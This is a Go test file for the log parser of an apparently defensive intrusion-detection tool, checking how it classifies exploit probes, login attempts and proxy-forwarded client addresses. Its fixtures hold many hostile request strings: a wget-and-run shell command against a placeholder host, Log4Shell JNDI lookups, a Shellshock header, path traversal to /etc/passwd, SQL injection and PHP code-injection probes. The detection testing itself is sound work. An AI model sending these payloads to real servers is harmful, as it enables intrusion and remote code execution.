package parse_test

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/kokkuri/kokkuri/internal/event"
	"github.com/kokkuri/kokkuri/internal/server/parse"
)

// request is a line of an access log for a request without credentials.
func request(method, target string, status int) string {
	return fmt.Sprintf(`203.0.113.66 - - [22/Nov/2026:18:00:00 +0000] "%s %s HTTP/1.1" %d 12 "-" "-"`, method, target, status)
}

func TestExploitPaths(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		target string
		status int
		probe  bool
	}{
		{"/.env", 404, true},
		{"/.env", 200, true},
		{"/.ENV", 404, true},
		{"/.env.production", 403, true},
		{"/api/.env?x=1", 404, true},
		{"/%2e%65%6e%76", 404, true},
		{"/%252eenv", 404, true},
		{`/\x2Eenv`, 404, true},
		{"/.git/config", 200, true},
		{"//.git//HEAD", 404, true},
		{"/wp-config.php.bak", 404, true},
		{"/wp-config.php~", 404, true},
		{"/blog/wp-config.php_old", 404, true},
		{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, true},
		{"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 400, true},
		{"/cgi-bin/luci/;stok=/locale", 404, true},
		{"/cgi-bin/awstats.pl", 200, false},
		{"/boaform/admin/formLogin", 404, true},
		{"/actuator/env", 404, true},
		{"/actuator/health", 200, false},
		{"/wp-login.php", 404, true},
		{"/wp-login.php", 200, false},
		{"/phpmyadmin/index.php", 404, true},
		{"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5", 404, true},
		{"/?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input", 200, true},
		{"/download?file=../../../../etc/passwd", 200, true},
		{"/download?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd", 200, true},
		{"/static/../index.html", 200, false},
		{"/?x=${jndi:ldap://198.51.100.9/a}", 200, true},
		{"/$%7Bjndi:dns://198.51.100.9/a%7D", 404, true},
		{"/$%7Bitem.url%7D", 404, false},
		{"/shell?cd+/tmp;wget+http://198.51.100.9/x;sh+x", 404, true},
		{"/item?id=1+union+all+select+1,2,3--", 200, true},
		{"/search?q=union", 200, false},
		{"/search?q=.env", 200, false},
		{"/" + strings.Repeat("a/", 4000) + ".env", 404, true},
		{"/" + strings.Repeat("a", 8000), 404, false},
		{"/.well-known/acme-challenge/x", 404, false},
		{"/favicon.ico", 404, false},
		{"/environment", 404, false},
		{"/shop/items/12?color=red&size=l", 200, false},
		{"*", 200, false},
		{"http://www.example.org/.env", 404, true},
		{"http://www.example.org", 200, false},
	} {
		e := parse.Message(event.HTTP, []byte(request("GET", c.target, c.status)))
		if got := e.Kind == event.Probe && e.Method == "exploit"; got != c.probe {
			t.Errorf("%.80s answered %d is %s %s", c.target, c.status, e.Kind, e.Method)
		}
		if want, _, _ := strings.Cut(c.target, "?"); c.probe && e.Resource != want[:min(len(want), 512)] && !strings.HasPrefix(want, "http:") {
			t.Errorf("%.80s: resource %q", c.target, e.Resource)
		}
	}
	for tail, probe := range map[string]bool{
		`"-" "${jndi:ldap://198.51.100.9/a}"`: true, `"${${lower:j}ndi:ldap://198.51.100.9/a}" "-"`: true, `"-" "() { :; }; /bin/ping"`: true,
		`"-" "a { b } ${c}"`: false, `"-" "{"`: false,
	} {
		line := strings.Replace(request("GET", "/", 200), `"-" "-"`, tail, 1)
		if e := parse.Message(event.HTTP, []byte(line)); (e.Kind == event.Probe) != probe {
			t.Errorf("%s is %s", tail, e.Kind)
		}
	}
}

// TestEncodingHidesNothing: a target means the same with any of its bytes percent-encoded, once or twice.
func TestEncodingHidesNothing(t *testing.T) {
	t.Parallel()
	pieces := rapid.SampledFrom([]string{
		"/", "/", "?", "&", "=", ";", "+", ".env", ".git", "..", "etc", "passwd", "wp-login.php", "cgi-bin", "a", "index.html", "union", "select", "cd", "tmp", "wget", "x%20y", "PHPUnit",
		"${jndi:", "wp-config.php", "averylongpieceofapathnamethatisnothingatall",
	})
	rapid.Check(t, func(t *rapid.T) {
		target := "/" + strings.Join(rapid.SliceOfN(pieces, 0, 10).Draw(t, "pieces"), "")
		target = strings.ReplaceAll(target, "%20", "_")
		status := rapid.SampledFrom([]int{200, 404}).Draw(t, "status")
		encoded := ""
		for i, c := range []byte(target) {
			switch {
			case i == 0 || c == '?' || c == '&' || c == '=':
				encoded += string(c)
			case rapid.Bool().Draw(t, "once"):
				encoded += fmt.Sprintf("%%%02x", c)
			case rapid.Bool().Draw(t, "twice"):
				encoded += fmt.Sprintf("%%25%02X", c)
			default:
				encoded += string(c)
			}
		}
		plain := parse.Message(event.HTTP, []byte(request("GET", target, status)))
		hidden := parse.Message(event.HTTP, []byte(request("GET", encoded, status)))
		if plain.Kind != hidden.Kind || plain.Method != hidden.Method {
			t.Fatalf("%s is %s, %s is %s", target, plain.Kind, encoded, hidden.Kind)
		}
	})
}

func TestLoginForms(t *testing.T) {
	t.Parallel()
	own := parse.New(parse.Options{HTTP: parse.HTTPOptions{
		Logins: []parse.HTTPLogin{
			{Path: "/shop/login.do", Methods: []string{"POST", "PUT"}, Failed: []int{200, 401}, OK: []int{302}},
			{Path: "/sso/*"},
			{Path: "*/anmelden"},
			{Path: "*form*", Failed: []int{418}},
			{Path: "/wp-login.php", Failed: []int{403}},
		},
	}})
	none := parse.New(parse.Options{HTTP: parse.HTTPOptions{NoShippedLogins: true}})
	shipped := parse.New(parse.Options{})
	for _, c := range []struct {
		p              *parse.Parser
		method, target string
		status         int
		want           event.Kind
	}{
		{shipped, "POST", "/wp-login.php", 200, event.AuthFailed},
		{shipped, "POST", "/wp-login.php", 403, event.AuthFailed},
		{shipped, "POST", "/wp-login.php", 302, event.AuthOK},
		{shipped, "POST", "/wp-login.php", 500, event.Context},
		{shipped, "POST", "/wp-login.php", 404, event.Probe},
		{shipped, "GET", "/wp-login.php", 200, event.None},
		{shipped, "POST", "/blog//./x/../wp-login.php/y?z=1", 200, event.AuthFailed},
		{shipped, "POST", "/../wp-login.php", 200, event.AuthFailed},
		{shipped, "POST", "/%77%70-login%2ephp", 200, event.AuthFailed},
		{shipped, "POST", "/xmlrpc.php", 200, event.Context},
		{shipped, "POST", "/xmlrpc.php", 403, event.AuthFailed},
		{shipped, "POST", "/user/login", 200, event.AuthFailed},
		{shipped, "POST", "/user/login/", 303, event.AuthOK},
		{shipped, "POST", "/login", 200, event.Context},
		{shipped, "POST", "/api/v1/login", 401, event.AuthFailed},
		{shipped, "POST", "/users/sign_in", 422, event.AuthFailed},
		{shipped, "POST", "/administrator/index.php", 303, event.Context},
		{shipped, "POST", "/index.php", 401, event.Context},
		{shipped, "POST", "/articles", 403, event.None},
		{none, "POST", "/wp-login.php", 200, event.None},
		{own, "PUT", "/shop/login.do", 200, event.AuthFailed},
		{own, "POST", "/shop//login.do", 401, event.AuthFailed},
		{own, "POST", "/shop/login.do", 302, event.AuthOK},
		{own, "POST", "/shop/login.do", 403, event.Context},
		{own, "GET", "/shop/login.do", 200, event.None},
		{own, "POST", "/shop/login.do/x", 200, event.None},
		{own, "POST", "/sso/a/b", 401, event.AuthFailed},
		{own, "POST", "/a/anmelden", 403, event.AuthFailed},
		{own, "POST", "/a/xformy", 418, event.AuthFailed},
		{own, "POST", "/wp-login.php", 200, event.Context},
		{own, "POST", "/user/login", 200, event.AuthFailed},
	} {
		e := c.p.Message(event.HTTP, []byte(request(c.method, c.target, c.status)))
		if e.Kind != c.want || (e.Kind == event.AuthFailed) != (e.Attempts == 1) {
			t.Errorf("%s %s answered %d: %s with %d attempts, want %s", c.method, c.target, c.status, e.Kind, e.Attempts, c.want)
		}
		if parse.ProvesLogin(e) {
			t.Errorf("%s %s answered %d proves a login", c.method, c.target, c.status)
		}
	}
}

// TestClientsBehindProxies: only a configured proxy is believed, and only what it or one before it appended.
func TestClientsBehindProxies(t *testing.T) {
	t.Parallel()
	o := parse.Options{HTTP: parse.HTTPOptions{Proxies: []netip.Prefix{netip.MustParsePrefix("198.51.100.0/28"), netip.MustParsePrefix("2001:db8:2::/64")}}}
	second := o
	second.HTTP.ForwardedField = 1
	for _, c := range []struct {
		name, peer, fields, want string
		o                        parse.Options
	}{
		{"no proxy configured", "198.51.100.1", `"-" "-" "203.0.113.66"`, "198.51.100.1", parse.Options{}},
		{"not by a proxy", "203.0.113.66", `"-" "-" "198.51.100.99"`, "203.0.113.66", o},
		{"by a proxy", "198.51.100.1", `"-" "-" "203.0.113.66"`, "203.0.113.66", o},
		{"by a proxy over IPv6", "2001:db8:2::1", `"-" "-" "2001:db8:1:66::66"`, "2001:db8:1:66::66", o},
		{"forged before", "198.51.100.1", `"-" "-" "198.51.100.99, 203.0.113.66"`, "203.0.113.66", o},
		{"forged before, a proxy's", "198.51.100.1", `"-" "-" "198.51.100.2, 203.0.113.66"`, "203.0.113.66", o},
		{"forged before, no address", "198.51.100.1", `"-" "-" "<script>, 203.0.113.66"`, "203.0.113.66", o},
		{"by two proxies", "198.51.100.1", `"-" "-" "203.0.113.66, 198.51.100.2"`, "203.0.113.66", o},
		{"by two proxies, forged before", "198.51.100.1", `"-" "-" "198.51.100.99, 203.0.113.66,198.51.100.2"`, "203.0.113.66", o},
		{"nobody but proxies", "198.51.100.1", `"-" "-" "198.51.100.3, 198.51.100.2"`, "", o},
		{"no header", "198.51.100.1", `"-" "-" "-"`, "", o},
		{"empty header", "198.51.100.1", `"-" "-" ""`, "", o},
		{"no such field", "198.51.100.1", `"203.0.113.66" "203.0.113.66"`, "", o},
		{"no fields at all", "198.51.100.1", ``, "", o},
		{"no address", "198.51.100.1", `"-" "-" "unknown"`, "", o},
		{"a name", "198.51.100.1", `"-" "-" "evil.example.org"`, "", o},
		{"no address behind the client", "198.51.100.1", `"-" "-" "203.0.113.66, unknown"`, "", o},
		{"with a port", "198.51.100.1", `"-" "-" "203.0.113.66:4022"`, "203.0.113.66", o},
		{"in brackets", "198.51.100.1", `"-" "-" "[2001:db8:1:66::66]:4022"`, "2001:db8:1:66::66", o},
		{"bad brackets", "198.51.100.1", `"-" "-" "[2001:db8:1:66::66"`, "", o},
		{"quotes in the agent", "198.51.100.1", `"-" "x\" \"198.51.100.99" "203.0.113.66"`, "203.0.113.66", o},
		{"quotes in the header", "198.51.100.1", `"-" "-" "198.51.100.99\x22 \x22203.0.113.66"`, "", o},
		{"another field", "198.51.100.1", `"203.0.113.66" "-"`, "203.0.113.66", second},
	} {
		p := parse.New(c.o)
		line := c.peer + ` - root [22/Nov/2026:18:00:00 +0000] "GET / HTTP/1.1" 401 12 ` + c.fields
		e := p.Message(event.HTTP, []byte(strings.TrimSpace(line)))
		var want netip.Addr
		if c.want != "" {
			want = netip.MustParseAddr(c.want)
		}
		if e.Kind != event.AuthFailed || e.Source != want {
			t.Errorf("%s: %s from %s, want it from %s", c.name, e.Kind, e.Source, want)
		}
	}
	p := parse.New(o)
	e := p.Line([]byte(`2026-11-22T18:00:00Z web apache2[1]: [auth_basic:error] [pid 1:tid 2] [client 198.51.100.1:4022] AH01618: user root not found: /`), capturedAt())
	if e.Kind != event.Context || e.Source.IsValid() {
		t.Errorf("a proxy is blamed by an error log: %+v", e)
	}
}

func TestAnonymousLoginsProveNothing(t *testing.T) {
	t.Parallel()
	for line, proves := range map[string]bool{
		`[alice] OK LOGIN: Client "203.0.113.20"`: true, `[ftp] OK LOGIN: Client "203.0.113.20", anon password "x"`: false,
		`web (203.0.113.20[203.0.113.20]) - ANON anonymous: Login successful.`: false, `(?@203.0.113.20) [INFO] Anonymous user logged in`: false,
		`(?@203.0.113.20) [INFO] alice is now logged in`: true, `[alice] FAIL LOGIN: Client "203.0.113.20"`: false,
	} {
		if e := parse.Message(event.FTP, []byte(line)); parse.ProvesLogin(e) != proves {
			t.Errorf("%s: %v", line, !proves)
		}
	}
}
